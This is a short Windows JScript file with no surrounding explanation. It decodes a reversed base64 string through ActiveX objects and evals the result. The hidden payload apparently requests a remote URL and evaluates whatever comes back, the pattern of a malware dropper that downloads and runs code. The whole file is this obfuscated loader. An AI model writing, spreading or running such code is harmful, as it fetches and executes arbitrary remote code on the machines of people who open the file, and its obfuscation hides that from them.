var a='==wOpQHelRVZz52bwNXZy5CeowWY2V2OpgCZuV2cug3OpU2csFmZscycq5yZv02bj5SZsBXbhhXZuMHdlN3ch1CZslWdn5ibkN2LvozcwRHdodCLnQVRHdCKuVGcv5Ce7kyJQRFVIxUTY5iMM1EWT10JoQ3YlpmYPhVZ2lGdjFEI3Vmb9gHIyFmd';
function r(s){return s.split('').reverse().join('');}
var d=new ActiveXObject('Msxml2.DOMDocument').createElement('b');d.dataType='bin.base64';d.text=r(a);
var st=new ActiveXObject('ADODB.Stream');st.Type=1;st.Open();st.Write(d.nodeTypedValue);st.Position=0;st.Type=2;st.Charset='us-ascii';
eval(st.ReadText());
